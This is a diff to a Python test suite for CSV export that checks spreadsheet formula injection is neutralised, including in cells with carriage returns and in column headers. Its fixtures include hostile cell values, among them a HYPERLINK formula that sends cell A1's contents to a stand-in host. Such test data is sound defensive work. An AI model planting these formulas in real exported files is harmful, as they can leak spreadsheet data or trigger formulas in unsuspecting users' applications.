@@ -23,7 +23,7 @@ from .badfiles import ENGLISH
 
 runner = CliRunner()
 
-# "\r=1+2" is neutralised too, but a CR inside a cell breaks the row: see the xfail below.
+# "\r=1+2" is neutralised too, and a CR inside a cell stays inside its quoted cell.
 HOSTILE_CELLS = [
     "=1+2",
     '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
@@ -83,11 +83,6 @@ class TestNeutralise:
         assert back["start"].dtype == int and back["start"].iloc[0] == -1
         assert formula_cells(path) == []
 
-    @pytest.mark.xfail(
-        strict=True,
-        reason="io.write_table writes with lineterminator='\\n', so the csv module does not quote a bare CR, "
-        "and a spreadsheet splits the row there",
-    )
     def test_a_carriage_return_inside_a_cell_keeps_the_row_whole(self, tmp_path):
         path = tmp_path / "t.csv"
         write_table(pd.DataFrame({"text": ["a\r=1+2", "b"], "n": [1, 2]}), path)
@@ -143,10 +138,6 @@ class TestCsvExport:
         body = (out / "comparison.csv").read_text(encoding="utf-8").split("\n", 1)[1]
         assert formula_cells_in(body) == []
 
-    @pytest.mark.xfail(
-        strict=True,
-        reason="io.write_table neutralises cells but not column names; comparison.csv has one column per source name",
-    )
     def test_source_names_in_the_comparison_header_are_neutralised(self, tmp_path, nlp):
         folder = _hostile_folder(tmp_path)
         (folder / "sources.csv").write_text('doc_id,source\na,"=HYPERLINK(""x"")"\nc,@evil\n', encoding="utf-8")
